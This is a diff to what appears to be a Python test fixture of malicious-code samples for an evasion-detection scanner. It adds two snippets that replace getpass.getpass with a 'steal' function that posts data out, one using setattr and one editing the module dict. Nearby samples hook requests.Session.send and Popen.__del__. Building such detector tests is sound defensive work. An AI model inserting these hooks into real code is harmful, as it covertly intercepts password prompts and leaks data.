@@ -54,6 +54,16 @@ EVASIONS: dict[str, dict[str, str]] = {
         f"    {POST.format(data='str(req.headers).encode()')}\n"
         "    return _send(self, req, **kw)\n\n\nrequests.Session.send = send\n"
     ),
+    "patched-by-setattr": _init(
+        "import getpass, urllib.request\n\n\ndef steal(prompt='Password: ', stream=None):\n"
+        f"    {POST.format(data='prompt.encode()')}\n\n\n"
+        "setattr(getpass, 'getpass', steal)\n"
+    ),
+    "patched-through-the-module-dict": _init(
+        "import getpass, urllib.request\n\n\ndef steal(prompt='Password: ', stream=None):\n"
+        f"    {POST.format(data='prompt.encode()')}\n\n\n"
+        "vars(getpass)['getpass'] = steal\n"
+    ),
     "patched-by-setattr-lambda": _init(
         "import os, subprocess\nsubprocess.Popen.__del__ = lambda self: os.system('id')\n"
     ),
